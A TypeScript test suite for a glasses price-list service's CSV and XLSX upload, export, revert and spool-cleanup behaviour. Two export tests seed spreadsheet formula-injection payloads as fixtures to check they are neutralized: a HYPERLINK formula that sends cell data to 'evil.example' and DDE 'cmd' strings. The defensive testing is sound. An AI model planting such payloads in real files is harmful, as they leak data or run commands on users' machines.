import assert from 'node:assert/strict'
import { readdirSync } from 'node:fs'
import net from 'node:net'
import { tmpdir } from 'node:os'
import { after, before, describe, test } from 'node:test'
import ExcelJS from 'exceljs'
import type { FastifyInstance } from 'fastify'
import { sql } from 'kysely'
import Papa from 'papaparse'
import {
  changeCount,
  clearGlassPrices,
  numberedEntries,
  pricesPath,
  seedEntries,
  storedEntries,
  uploadPriceFile,
} from '../../test/fixtures/glass-prices.js'
import { buildTestApp, eachDatabase, useTestApp } from '../../test/harness.js'
import { glassPricePages } from './glass-price-repository.js'
import { SORT_COLUMNS, SORT_DIRECTIONS } from './glass-price-schemas.js'

/* The glass price list as files over HTTP: CSV upload with its history batch, and CSV / XLSX download. */

const csv = (...lines: string[]) => `${lines.join('\n')}\n`
const header = 'manufacturer,brand,model,price,purchase'
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
/** An import's answer without its check's lists (the tests of the check read them apart). */
const counts = ({ check: _check, ...rest }: Record<string, unknown>) => rest
/** An export's CSV lines without the trailing version and change-time columns. */
const dataColumns = (text: string, delimiter = ',') =>
  text
    .trimEnd()
    .split(/\r?\n/)
    .map((line) => line.split(delimiter).slice(0, -2).join(delimiter))

eachDatabase('glass price list: upload and download', (ctx) => {
  const app = useTestApp(ctx, {
    env: { IMPORT_BODY_LIMIT: '16384' },
    beforeEach: () => clearGlassPrices(ctx.db),
  })

  const upload = (body: string | Buffer, query = '', contentType = 'text/csv') =>
    uploadPriceFile(app(), body, query, contentType)
  const download = (query = '') => app().inject({ method: 'GET', url: `${pricesPath}/export${query}` })
  const stored = async () =>
    (await storedEntries(ctx.db)).map((e) => [e.manufacturer, e.brand, e.model, e.price, e.purchase, e.updated_by])

  describe('upload', () => {
    test('a valid file is added in one history batch, with the uploader as the last editor', async () => {
      await seedEntries(ctx.db, numberedEntries('Old', 1))
      const response = await upload(
        csv(header, 'Luxottica,Ray-Ban,RB5154,12990.00,6500', '"Safilo, S.p.A.",Carrera,CA 8862,11990.5,4800.00'),
      )
      assert.equal(response.statusCode, 200, response.body)
      const result = response.json()
      assert.deepEqual(
        { ...counts(result), batch: typeof result.batch },
        {
          rows: 2,
          written: 2,
          deleted: 0,
          mode: 'append',
          created: 2,
          updated: 0,
          unchanged: 0,
          dryRun: false,
          format: 'csv',
          delimiter: ',',
          batch: 'number',
          conflicts: 0,
          overwritten: 0,
          skipped: 0,
        },
      )
      assert.deepEqual((await stored()).slice(1), [
        ['Luxottica', 'Ray-Ban', 'RB5154', '12990.00', '6500.00', 'anonymous'],
        ['Safilo, S.p.A.', 'Carrera', 'CA 8862', '11990.50', '4800.00', 'anonymous'],
      ])
      const changes = (await app().inject({ method: 'GET', url: `${pricesPath}/changes` })).json().content
      assert.equal(changes[0].id, result.batch)
      assert.equal(changes[0].action, 'IMPORT')
      assert.equal(changes[0].changedCount, 2)
      const ids = (await storedEntries(ctx.db)).slice(1).map((e) => e.id)
      const history = (await app().inject({ method: 'GET', url: `${pricesPath}/${ids[1]}/history` })).json()
      assert.equal(history.content[0].batch, result.batch)
      assert.deepEqual(
        history.content[0].changes.find((c: { field: string }) => c.field === 'price'),
        { field: 'price', oldValue: null, newValue: 11990.5 },
      )
    })

    test('reverting the batch removes exactly what the file added', async () => {
      await seedEntries(ctx.db, numberedEntries('Keep', 2))
      const before = await stored()
      const result = (await upload(csv(header, 'A,B,C,1,1', 'A,B,D,2,2'))).json()
      const revert = await app().inject({ method: 'POST', url: `${pricesPath}/changes/${result.batch}/revert` })
      assert.equal(revert.statusCode, 200, revert.body)
      assert.equal(revert.json().restoredCount, 2)
      assert.deepEqual(await stored(), before)
    })

    test('replace=true swaps the whole price list, and its revert brings the old list back', async () => {
      await seedEntries(ctx.db, [
        { manufacturer: 'Luxottica', brand: 'Ray-Ban', model: 'RB5154', price: 9990, purchase: 5000 },
        { manufacturer: 'Gone', brand: 'Gone', model: 'Gone 1', price: 100, purchase: 50 },
      ])
      const before = await stored()
      const response = await upload(
        csv(
          'model;brand;manufacturer;purchase;price',
          'RB5154;Ray-Ban;Luxottica;6 500,00;12 990,00',
          'CA 8862;Carrera;Safilo;4 800,00;11 990,00',
        ),
        '?replace=true',
      )
      assert.equal(response.statusCode, 200, response.body)
      assert.equal(response.json().deleted, 2)
      assert.equal(response.json().mode, 'replace')
      assert.equal(response.json().delimiter, ';')
      assert.deepEqual(await stored(), [
        ['Luxottica', 'Ray-Ban', 'RB5154', '12990.00', '6500.00', 'anonymous'],
        ['Safilo', 'Carrera', 'CA 8862', '11990.00', '4800.00', 'anonymous'],
      ])
      const revert = await app().inject({
        method: 'POST',
        url: `${pricesPath}/changes/${response.json().batch}/revert`,
      })
      assert.equal(revert.statusCode, 200, revert.body)
      assert.equal(revert.json().conflictCount, 0)
      assert.deepEqual(
        (await stored()).map((row) => row.slice(0, 5)),
        before.map((row) => row.slice(0, 5)),
      )
    })

    test('a replace keeps in its history every entry it deletes, however far apart their ids (written a range at a time)', async () => {
      await seedEntries(ctx.db, numberedEntries('Near', 2))
      // An entry whose id lies 250,000 past the others: the history is written 100,000 ids at a time.
      await sql`INSERT INTO glasses_price (id, manufacturer, brand, model, price, purchase)
        SELECT max(id) + 250000, 'Far', 'Far', 'Far 1', 700, 300 FROM glasses_price`.execute(ctx.db.primary)
      const before = await stored()
      const response = await upload(csv(header, 'A,B,C,1,1'), '?replace=true&confirmDeletes=3')
      assert.equal(response.statusCode, 200, response.body)
      assert.equal(response.json().deleted, 3)
      const revert = await app().inject({
        method: 'POST',
        url: `${pricesPath}/changes/${response.json().batch}/revert`,
      })
      assert.equal(revert.statusCode, 200, revert.body)
      assert.deepEqual(
        (await stored()).map((row) => row.slice(0, 5)),
        before.map((row) => row.slice(0, 5)),
        'every deleted entry is back, the far one too',
      )
    })

    const twoBrands = () =>
      seedEntries(ctx.db, [
        { manufacturer: 'Luxottica', brand: 'Ray-Ban', model: 'RB5154', price: 9990, purchase: 5000 },
        { manufacturer: 'Luxottica', brand: 'Ray-Ban', model: 'RB2140', price: 12990, purchase: 6000 },
        { manufacturer: 'Luxottica', brand: 'Ray-Ban', model: 'RB3025', price: 11990, purchase: 5500 },
        { manufacturer: 'Safilo', brand: 'Carrera', model: 'CA 8862', price: 8990, purchase: 4000 },
        { manufacturer: 'Safilo', brand: 'Carrera', model: 'CA 1343', price: 10690, purchase: 4890 },
      ])

    test('round trip: a brand exported, prices edited, uploaded with mode=upsert keeps ids and history, and reverts', async () => {
      const ids = await twoBrands()
      const exported = await download('?brand=ray-ban&excel=true')
      assert.equal(exported.statusCode, 200)
      // The price manager edits in a spreadsheet: one price up, the rest as they were, one new model.
      const lines = exported.body
        .replace(/^\uFEFF/, '')
        .trimEnd()
        .split(/\r?\n/)
      assert.equal(lines.length, 4)
      const edited = lines.map((line) => line.replace('RB5154;9990,00;5000,00', 'RB5154;10 490,00;5000,00'))
      edited.push('Luxottica;Ray-Ban;RB4171;13 990,00;6 200,00')
      const untouched = (await stored()).slice(3)
      const response = await upload(`\uFEFF${edited.join('\r\n')}\r\n`, '?mode=upsert')
      assert.equal(response.statusCode, 200, response.body)
      const result = response.json()
      assert.deepEqual(
        { ...counts(result), batch: typeof result.batch },
        {
          rows: 4,
          written: 2,
          deleted: 0,
          mode: 'upsert',
          created: 1,
          updated: 1,
          unchanged: 2,
          dryRun: false,
          format: 'csv',
          delimiter: ';',
          batch: 'number',
          conflicts: 0,
          overwritten: 0,
          skipped: 0,
        },
      )
      const after = await storedEntries(ctx.db)
      assert.deepEqual(
        after.map((e) => [e.id, e.model, e.price, e.updated_by, e.version]),
        [
          [ids[0], 'RB5154', '10490.00', 'anonymous', 2],
          [ids[1], 'RB2140', '12990.00', 'seed', 1],
          [ids[2], 'RB3025', '11990.00', 'seed', 1],
          [ids[3], 'CA 8862', '8990.00', 'seed', 1],
          [ids[4], 'CA 1343', '10690.00', 'seed', 1],
          [after[5]?.id, 'RB4171', '13990.00', 'anonymous', 1],
        ],
      )
      assert.deepEqual((await stored()).slice(3, 5), untouched)
      const history = (await app().inject({ method: 'GET', url: `${pricesPath}/${ids[0]}/history` })).json()
      assert.equal(history.content[0].batch, result.batch)
      assert.equal(history.content[0].action, 'IMPORT')
      assert.deepEqual(history.content[0].changes, [{ field: 'price', oldValue: 9990, newValue: 10490 }])
      const changes = (await app().inject({ method: 'GET', url: `${pricesPath}/changes` })).json().content
      assert.equal(changes[0].changedCount, 2)

      const revert = await app().inject({ method: 'POST', url: `${pricesPath}/changes/${result.batch}/revert` })
      assert.equal(revert.statusCode, 200, revert.body)
      assert.equal(revert.json().restoredCount, 2)
      assert.deepEqual(
        (await storedEntries(ctx.db)).map((e) => [e.id, e.price]),
        ids.map((id, index) => [id, ['9990.00', '12990.00', '11990.00', '8990.00', '10690.00'][index]]),
      )
    })

    test('mode=upsert dry run counts what it would do and writes nothing; append names the mode for keys there', async () => {
      await twoBrands()
      const before = await stored()
      const file = csv(header, 'Luxottica,ray-ban,rb5154,9990,5001', 'Safilo,Carrera,CA 8862,8990,4000', 'A,B,C,1,1')
      const dry = await upload(file, '?mode=upsert&dryRun=true')
      assert.equal(dry.statusCode, 200, dry.body)
      assert.deepEqual(
        [dry.json().created, dry.json().updated, dry.json().unchanged, dry.json().written, dry.json().batch],
        [1, 1, 1, 0, null],
      )
      assert.deepEqual(await stored(), before)
      const appended = await upload(file)
      assert.equal(appended.statusCode, 422)
      assert.deepEqual(
        appended
          .json()
          .problems.map((p: { line: number; message: string }) => [p.line, p.message.replace(/ \(id \d+\)/, '')]),
        [
          [2, 'the keys and bounds are already in the price list: the mode upsert updates its prices'],
          [3, 'the keys and bounds are already in the price list: the mode upsert updates its prices'],
        ],
      )
      const contradiction = await upload(file, '?mode=upsert&replace=true')
      assert.equal(contradiction.statusCode, 400)
      assert.equal(contradiction.json().errors[0].field, 'replace')
      assert.equal((await upload(file, '?mode=merge')).statusCode, 400)
    })

    test('mode=replace from a filtered export is a 409 saying how many it would delete, until confirmDeletes names it', async () => {
      await twoBrands()
      const before = await stored()
      const exported = await download('?brand=carrera')
      for (const query of [
        '?mode=replace',
        '?replace=true',
        '?mode=replace&confirmDeletes=3',
        '?mode=replace&dryRun=true',
      ]) {
        const refused = await upload(exported.rawPayload, query)
        assert.equal(refused.statusCode, 409, `${query}: ${refused.body}`)
        assert.match(String(refused.headers['content-type']), /^application\/problem\+json/)
        const problem = refused.json()
        assert.equal(problem.code, 'confirm-deletes')
        assert.equal(problem.deleteCount, 5)
        assert.equal(problem.otherCount, 3)
        assert.match(problem.detail, /would delete 5 entries, 3 of them of another manufacturer.*confirmDeletes=5/)
        assert.deepEqual(await stored(), before)
      }
      const confirmed = await upload(exported.rawPayload, '?mode=replace&confirmDeletes=5')
      assert.equal(confirmed.statusCode, 200, confirmed.body)
      assert.equal(confirmed.json().deleted, 5)
      assert.deepEqual(
        (await stored()).map((row) => row[2]),
        ['CA 8862', 'CA 1343'],
      )
    })

    test('a sheet headed in Russian uploads: Производитель;Бренд;Модель;Цена;Закупка', async () => {
      const response = await upload(
        csv('Производитель; Бренд ;МОДЕЛЬ;цена;Закупка', 'Luxottica;Ray-Ban;RB5154;12 990,00;6 500,00'),
      )
      assert.equal(response.statusCode, 200, response.body)
      assert.deepEqual(await stored(), [['Luxottica', 'Ray-Ban', 'RB5154', '12990.00', '6500.00', 'anonymous']])
    })

    test('problems follow Accept-Language: Russian for ru, English otherwise', async () => {
      await seedEntries(ctx.db, [{ manufacturer: 'A', brand: 'B', model: 'C', price: 1, purchase: 1 }])
      const file = csv('Производитель;Бренд;Модель;Цена;Закупка;Цвет', 'A;B;C;1;1;x', 'A;B;D;-1;1,555;x')
      const ask = (language?: string) =>
        app().inject({
          method: 'POST',
          url: `${pricesPath}/import`,
          headers: { 'content-type': 'text/csv', ...(language ? { 'accept-language': language } : {}) },
          payload: file,
        })
      const russian = await ask('ru-RU,ru;q=0.9,en;q=0.5')
      assert.equal(russian.statusCode, 422)
      assert.equal(russian.headers['content-language'], 'ru')
      const problem = russian.json()
      assert.equal(problem.title, 'Необрабатываемые данные')
      assert.equal(problem.detail, 'В файле 1 ошибка; ничего не записано')
      assert.match(
        problem.problems[0].message,
        /^неизвестный столбец; столбцы: Производитель, Бренд, Модель, Цена, Закупка/,
      )
      const russianProblems = async (...lines: string[]) =>
        (
          await app().inject({
            method: 'POST',
            url: `${pricesPath}/import`,
            headers: { 'content-type': 'text/csv', 'accept-language': 'ru' },
            payload: csv('Производитель;Бренд;Модель;Цена;Закупка', ...lines),
          })
        )
          .json()
          .problems.map((p: { message: string }) => p.message.replace(/ \(id \d+\)/, ''))
      assert.deepEqual(await russianProblems('A;B;D;-1;1,555'), [
        'не может быть отрицательным',
        'больше 2 знаков после запятой',
      ])
      assert.deepEqual(await russianProblems('A;B;C;1;1'), [
        'такие ключи и границы уже есть в прайс-листе: режим upsert обновит цены',
      ])
      const english = await ask()
      assert.equal(english.headers['content-language'], 'en')
      assert.equal(english.json().detail, 'The file has 1 problem; nothing was written')
    })

    test('a file with problems is a 422 listing each with its line and column, and nothing is written', async () => {
      await seedEntries(ctx.db, numberedEntries('Keep', 1))
      const before = await stored()
      const batches = await changeCount(ctx.db)
      const response = await upload(csv(header, 'A,B,C,12x,1', 'A,B,D,-5,1', 'A,B,E,1,1', 'a,b,e,2,2'))
      assert.equal(response.statusCode, 422)
      assert.match(String(response.headers['content-type']), /^application\/problem\+json/)
      const problem = response.json()
      assert.equal(problem.problemCount, 3)
      assert.deepEqual(
        problem.problems.map((p: { line: number; column: string | null }) => [p.line, p.column]),
        [
          [2, 'price'],
          [3, 'price'],
          [5, null],
        ],
      )
      assert.match(problem.detail, /3 problems; nothing was written/)
      const existing = await upload(csv(header, 'A,B,F,1,1', 'Seed,Keep,Keep 01,1,1'))
      assert.equal(existing.statusCode, 422)
      assert.equal(existing.json().problems[0].line, 3)
      assert.match(existing.json().problems[0].message, /already in the price list/)
      assert.deepEqual(await stored(), before)
      assert.equal(await changeCount(ctx.db), batches)
    })

    test('a wrong header, an empty file and an empty body are 422 problems', async () => {
      const wrong = await upload(csv('maker,brand,model,price,purchase', 'A,B,C,1,1'))
      assert.equal(wrong.statusCode, 422)
      assert.deepEqual(
        wrong.json().problems.map((p: { column: string }) => p.column),
        ['maker', 'manufacturer'],
      )
      assert.equal((await upload(csv(header))).statusCode, 422)
      const empty = await upload('')
      assert.equal(empty.statusCode, 422)
      assert.match(empty.json().problems[0].message, /empty/)
      assert.deepEqual(await stored(), [])
    })

    test('dryRun=true checks the file and writes nothing', async () => {
      const response = await upload(csv(header, 'A,B,C,1,1'), '?dryRun=true')
      assert.equal(response.statusCode, 200)
      assert.deepEqual(counts(response.json()), {
        rows: 1,
        written: 0,
        deleted: 0,
        mode: 'append',
        created: 1,
        updated: 0,
        unchanged: 0,
        dryRun: true,
        format: 'csv',
        delimiter: ',',
        batch: null,
        conflicts: 0,
        overwritten: 0,
        skipped: 0,
      })
      assert.deepEqual(response.json().check.created.content, [
        { line: 2, id: null, manufacturer: 'A', brand: 'B', model: 'C', price: 1, purchase: 1, changes: [] },
      ])
      assert.deepEqual(await stored(), [])
      assert.equal(await changeCount(ctx.db), 0)
    })

    test('a replace dry run counts the entries it would delete, so the replace can be confirmed by it', async () => {
      await seedEntries(ctx.db, [...numberedEntries('Old', 3), ...numberedEntries('Other', 2)])
      const before = await stored()
      const checked = await upload(csv(header, 'A,B,C,1,1', 'D,E,F,2,2'), '?mode=replace&dryRun=true')
      assert.equal(checked.statusCode, 200, checked.body)
      assert.deepEqual(counts(checked.json()), {
        rows: 2,
        written: 0,
        deleted: 5,
        mode: 'replace',
        created: 2,
        updated: 0,
        unchanged: 0,
        dryRun: true,
        format: 'csv',
        delimiter: ',',
        batch: null,
        conflicts: 0,
        overwritten: 0,
        skipped: 0,
      })
      const { check } = checked.json()
      assert.equal(check.deleted.totalElements, 5, 'every stored entry is missing from the file')
      assert.deepEqual(
        check.created.content.map((row: { model: string }) => row.model),
        ['C', 'F'],
      )
      assert.deepEqual(await stored(), before)
      const applied = await upload(csv(header, 'A,B,C,1,1', 'D,E,F,2,2'), '?mode=replace&confirmDeletes=5')
      assert.equal(applied.json().deleted, 5)
    })

    test('a JSON body is a 415 naming text/csv; a file over IMPORT_BODY_LIMIT is a 413', async () => {
      const json = await upload('{"a":1}', '', 'application/json')
      assert.equal(json.statusCode, 415)
      assert.equal(json.headers.accept, `text/csv, ${XLSX}`)
      assert.match(json.json().detail, /text\/csv/)
      const big = await upload(
        csv(header, ...numberedEntries('Big', 1000).map((e) => `${e.manufacturer},${e.brand},${e.model},1,1`)),
      )
      assert.equal(big.statusCode, 413)
      assert.match(big.json().detail, /16384 bytes/)
      assert.deepEqual(await stored(), [])
    })
  })

  describe('download', () => {
    test('CSV export follows the listing filters and sort, with the import columns', async () => {
      await seedEntries(ctx.db, [
        { manufacturer: 'Luxottica', brand: 'Ray-Ban', model: 'RB1', price: '300.10', purchase: 150 },
        { manufacturer: 'Luxottica', brand: 'Oakley', model: 'OX2', price: 100, purchase: 50 },
        { manufacturer: 'Safilo', brand: 'Carrera', model: 'CA3', price: 200, purchase: 90 },
      ])
      const response = await download('?manufacturer=lux&sortColumn=PRICE&sortDirection=DESC')
      assert.equal(response.statusCode, 200)
      assert.match(String(response.headers['content-type']), /^text\/csv/)
      assert.match(
        String(response.headers['content-disposition']),
        /^attachment; filename="glass-prices-lux-\d{4}-\d\d-\d\d\.csv"$/,
      )
      const names = await Promise.all(
        ['?brand=ray&sortColumn=PRICE', '?brand=ray&excel=true', '?format=xlsx', '?brand=Очки'].map(
          async (query) => String((await download(query)).headers['content-disposition']).split('"')[1],
        ),
      )
      assert.equal(new Set(names).size, 4, names.join(' '))
      assert.match(names[3] ?? '', /^glass-prices-\d{4}-\d\d-\d\d\.csv$/, 'a Cyrillic filter is left out of the name')
      assert.match(names[1] ?? '', /^glass-prices-ray-\d{4}-\d\d-\d\d-excel\.csv$/)
      assert.equal(response.body.split('\n')[0], `${header},version,changedAt`)
      assert.deepEqual(dataColumns(response.body), [
        header,
        'Luxottica,Ray-Ban,RB1,300.10,150.00',
        'Luxottica,Oakley,OX2,100.00,50.00',
      ])
    })

    test('keyset pages give every row once, in the order of each sort column and direction', async () => {
      // Prices repeat, so most page boundaries fall inside a run of ties.
      await seedEntries(
        ctx.db,
        numberedEntries('Keys', 40).map((e, index) => ({ ...e, price: (index % 3) * 10, purchase: (index % 4) * 5 })),
      )
      for (const sortColumn of SORT_COLUMNS) {
        for (const sortDirection of SORT_DIRECTIONS) {
          const selection = { filter: {}, sortColumn, sortDirection, timezone: app().config.businessTimezone }
          const whole: unknown[] = []
          for await (const page of glassPricePages(ctx.db.read, selection, 1000)) whole.push(...page.map((r) => r.id))
          const paged: unknown[] = []
          for await (const page of glassPricePages(ctx.db.read, selection, 7)) paged.push(...page.map((r) => r.id))
          assert.equal(whole.length, 40)
          assert.deepEqual(paged, whole, `${sortColumn} ${sortDirection}`)
          const listed = await app().inject({
            method: 'GET',
            url: `${pricesPath}/list?size=40&sortColumn=${sortColumn}&sortDirection=${sortDirection}`,
          })
          assert.deepEqual(
            listed.json().content.map((item: { id: number }) => item.id),
            whole.map(Number),
            `the listing's order, ${sortColumn} ${sortDirection}`,
          )
        }
      }
    })

    test('an export keeps the order and every row, and uploads back unchanged', async () => {
      const seeded = numberedEntries('Many', 60).map((e, index) => ({ ...e, price: (index % 7) * 10 + 0.5 }))
      await seedEntries(ctx.db, seeded)
      const plain = await download('?sortColumn=PRICE')
      const lines = plain.body.trim().split('\n').slice(1)
      assert.equal(lines.length, 60)
      const prices = lines.map((line) => Number(line.split(',')[3]))
      assert.deepEqual(
        prices,
        [...prices].sort((a, b) => a - b),
      )
      const excel = await download('?excel=true&sortColumn=PARAMETERS&sortDirection=DESC')
      assert.ok(excel.rawPayload.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf])), 'BOM')
      assert.match(excel.body, /Seed;Many;Many 60;30,50;3000,00/)
      const before = await stored()
      await clearGlassPrices(ctx.db)
      assert.equal((await upload(excel.rawPayload)).statusCode, 200)
      assert.deepEqual(
        (await stored()).map((row) => row.slice(0, 5)).sort(),
        before.map((row) => row.slice(0, 5)).sort(),
      )
    })

    test('hostile models export with no live formula (plain and excel=true) and upload back unchanged', async () => {
      const hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"RB01")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '\t=1+1',
        '\r=2+2',
        '-RB01',
        "'quoted",
        "'=already",
      ]
      await seedEntries(
        ctx.db,
        hostile.map((model, index) => ({
          manufacturer: index === 0 ? '=cmd|"/C calc"!A0' : 'Safe',
          brand: index === 1 ? '@brand' : 'Brand',
          model,
          price: 100 + index,
          purchase: 50,
        })),
      )
      const before = await stored()
      for (const query of ['', '?excel=true']) {
        const response = await download(query)
        assert.equal(response.statusCode, 200)
        const cells = Papa.parse<string[]>(response.body.replace(/^\ufeff/, ''), {
          delimiter: query ? ';' : ',',
          skipEmptyLines: true,
        }).data.flat()
        const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))
        assert.deepEqual(live, [], `no cell a spreadsheet runs as a formula (${query || 'plain'})`)
        assert.ok(cells.includes(`'${hostile[0]}`) && cells.includes("'-RB01") && cells.includes("''quoted"))
        await clearGlassPrices(ctx.db)
        const back = await upload(response.rawPayload)
        assert.equal(back.statusCode, 200, back.body)
        assert.deepEqual(
          (await stored()).map((row) => row.slice(0, 5)),
          before.map((row) => row.slice(0, 5)),
          `the round trip is lossless (${query || 'plain'})`,
        )
      }
    })

    test('XLSX export opens with exceljs with the same rows, prices as numbers', async () => {
      await seedEntries(ctx.db, numberedEntries('Sheet', 3))
      const response = await download('?format=xlsx&brand=sheet')
      assert.equal(response.statusCode, 200)
      assert.match(String(response.headers['content-type']), /spreadsheetml/)
      const workbook = new ExcelJS.Workbook()
      await workbook.xlsx.load(response.rawPayload as never)
      const sheet = workbook.worksheets[0]
      assert.ok(sheet)
      const rows: unknown[][] = []
      sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)))
      assert.deepEqual(rows[0], ['manufacturer', 'brand', 'model', 'price', 'purchase', 'version', 'changedAt'])
      assert.deepEqual(
        rows.slice(1).map((row) => row[5]),
        [1, 1, 1],
        'each entry’s version, a number cell',
      )
      assert.deepEqual(
        rows.map((row) => row.slice(0, 5)),
        [
          ['manufacturer', 'brand', 'model', 'price', 'purchase'],
          ['Seed', 'Sheet', 'Sheet 01', 100, 50],
          ['Seed', 'Sheet', 'Sheet 02', 200, 100],
          ['Seed', 'Sheet', 'Sheet 03', 300, 150],
        ],
      )
    })

    test('XLSX export uploads back unchanged: no formula cells, hostile text intact, also sent as text/csv', async () => {
      const models = [
        '=HYPERLINK("http://evil.example/?"&A1,"RB01")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '-RB01',
        "'quoted",
        "'=already",
        'literal _x0041_ escape',
        'a & <b> "c"',
        'Очки ёлка',
      ]
      await seedEntries(
        ctx.db,
        models.map((model, index) => ({
          manufacturer: index === 0 ? '=cmd|"/C calc"!A0' : 'Safe',
          brand: 'Brand',
          model,
          price: `${100 + index}.${index}5`,
          purchase: 50,
        })),
      )
      const before = await stored()
      const response = await download('?format=xlsx')
      assert.equal(response.statusCode, 200)
      const workbook = new ExcelJS.Workbook()
      await workbook.xlsx.load(response.rawPayload as never)
      const formulas: string[] = []
      workbook.worksheets[0]?.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) formulas.push(String(cell.address))
        }),
      )
      assert.deepEqual(formulas, [])
      for (const contentType of [XLSX, 'text/csv']) {
        await clearGlassPrices(ctx.db)
        const uploaded = await upload(response.rawPayload, '', contentType)
        assert.equal(uploaded.statusCode, 200, uploaded.body)
        assert.deepEqual([uploaded.json().format, uploaded.json().delimiter], ['xlsx', null])
        assert.deepEqual(
          (await stored()).map((row) => row.slice(0, 5)),
          before.map((row) => row.slice(0, 5)),
        )
      }
    })

    test('round trip in a spreadsheet: an XLSX export edited in another program uploads with mode=upsert', async () => {
      const ids = await seedEntries(ctx.db, [
        { manufacturer: 'Luxottica', brand: 'Ray-Ban', model: 'RB5154', price: 9990, purchase: 5000 },
        { manufacturer: 'Luxottica', brand: 'Ray-Ban', model: 'RB2140', price: 12990, purchase: 6000 },
        { manufacturer: 'Safilo', brand: 'Carrera', model: 'CA 8862', price: 8990, purchase: 4000 },
      ])
      const exported = await download('?brand=ray-ban&format=xlsx')
      const workbook = new ExcelJS.Workbook()
      await workbook.xlsx.load(exported.rawPayload as never)
      const sheet = workbook.worksheets[0]!
      // As a price manager does it: a price computed by a formula (+5 %), a new row typed in, saved by the program.
      sheet.getCell('D2').value = { formula: 'ROUND(9990*1.05,-1)', result: 10490 } as never
      sheet.addRow(['Luxottica', 'Ray-Ban', 'RB4171', 13990.5, '6 200,00'])
      const edited = Buffer.from(await workbook.xlsx.writeBuffer())
      const response = await upload(edited, '?mode=upsert', XLSX)
      assert.equal(response.statusCode, 200, response.body)
      assert.deepEqual(
        [response.json().created, response.json().updated, response.json().unchanged, response.json().format],
        [1, 1, 1, 'xlsx'],
      )
      const after = await storedEntries(ctx.db)
      assert.deepEqual(
        after.map((e) => [e.id, e.model, e.price, e.purchase]),
        [
          [ids[0], 'RB5154', '10490.00', '5000.00'],
          [ids[1], 'RB2140', '12990.00', '6000.00'],
          [ids[2], 'CA 8862', '8990.00', '4000.00'],
          [after[3]?.id, 'RB4171', '13990.50', '6200.00'],
        ],
      )
    })

    test('a body that is no workbook, sent as XLSX, is a 422 saying so', async () => {
      const response = await upload('manufacturer,brand\n', '', XLSX)
      assert.equal(response.statusCode, 422)
      assert.match(response.json().problems[0].message, /not a readable XLSX workbook/)
    })

    test('a bad filter is a 400 problem, not a file', async () => {
      const response = await download('?priceFrom=abc')
      assert.equal(response.statusCode, 400)
      assert.match(String(response.headers['content-type']), /^application\/problem\+json/)
      const reversed = await download('?priceFrom=10&priceTo=5')
      assert.equal(reversed.statusCode, 400)
    })
  })

  describe('upload spools', () => {
    // A real server and raw sockets: the client disappears the way a killed browser or curl does.
    let server: FastifyInstance
    let port: number
    before(async () => {
      server = await buildTestApp(ctx.db, { IMPORT_BODY_LIMIT: '4096' })
      await server.listen({ port: 0, host: '127.0.0.1' })
      port = (server.server.address() as net.AddressInfo).port
    })
    after(() => server?.close())

    /** This process's upload spools in the temporary directory. */
    const ownSpools = () => readdirSync(tmpdir()).filter((name) => name.startsWith(`optics-upload-${process.pid}-`))
    const until = async (condition: () => boolean, what: string) => {
      const deadline = Date.now() + 10_000
      while (!condition()) {
        if (Date.now() > deadline) assert.fail(`gave up waiting: ${what}`)
        await new Promise((resolve) => setTimeout(resolve, 20))
      }
    }
    const startUpload = (body: string, declaredLength = Buffer.byteLength(body)) => {
      const socket = net.connect(port, '127.0.0.1')
      socket.on('error', () => {})
      socket.write(
        `POST ${pricesPath}/import HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/csv\r\n` +
          `Content-Length: ${declaredLength}\r\n\r\n${body}`,
      )
      return socket
    }

    test('an upload killed halfway leaves no spool file, and nothing is written', async () => {
      const socket = startUpload(csv(header, 'A,B,C,1,1'), 4000)
      await until(() => ownSpools().length === 1, 'the upload is spooled')
      socket.destroy()
      await until(() => ownSpools().length === 0, 'the spool is removed')
      assert.deepEqual(await stored(), [])
    })

    test('an upload dropped while its import waits for the database leaves no spool file, and writes nothing', async () => {
      let release = () => {}
      const held = new Promise<void>((resolve) => (release = resolve))
      let locked = () => {}
      const lockTaken = new Promise<void>((resolve) => (locked = resolve))
      const holder = ctx.db.rawTransaction(async (client) => {
        await client.query('LOCK TABLE glasses_price IN ACCESS EXCLUSIVE MODE')
        locked()
        await held
      })
      await lockTaken
      try {
        const socket = startUpload(csv(header, 'A,B,C,1,1'))
        await until(() => ownSpools().length === 1, 'the upload is spooled')
        await new Promise((resolve) => setTimeout(resolve, 100))
        socket.destroy()
        await until(() => ownSpools().length === 0, 'the spool is removed')
      } finally {
        release()
        await holder
      }
      // The import nobody waits for any more is cancelled: once the database moves, it commits nothing.
      const probe = await app().inject({ method: 'GET', url: `${pricesPath}/list` })
      assert.equal(probe.statusCode, 200)
      await new Promise((resolve) => setTimeout(resolve, 300))
      assert.deepEqual(await stored(), [])
      assert.equal(await changeCount(ctx.db), 0)
    })

    test('answered uploads, good or refused, leave no spool file', async () => {
      const answer = (body: string) =>
        new Promise<number>((resolve, reject) => {
          const socket = startUpload(body)
          let text = ''
          socket.on('data', (chunk: Buffer) => {
            text += chunk.toString()
            if (/\r\n\r\n/.test(text)) {
              resolve(Number(/^HTTP\/1\.1 (\d+)/.exec(text)?.[1]))
              socket.destroy()
            }
          })
          socket.on('error', reject)
        })
      assert.equal(await answer(csv(header, 'A,B,C,1,1')), 200)
      assert.equal(await answer(csv(header, 'A,B,D,x,1')), 422)
      assert.equal(
        await answer(csv(header, ...numberedEntries('Big', 250).map((e) => `A,${e.brand},${e.model},1,1`))),
        413,
      )
      await until(() => ownSpools().length === 0, 'every spool is removed')
    })
  })
})
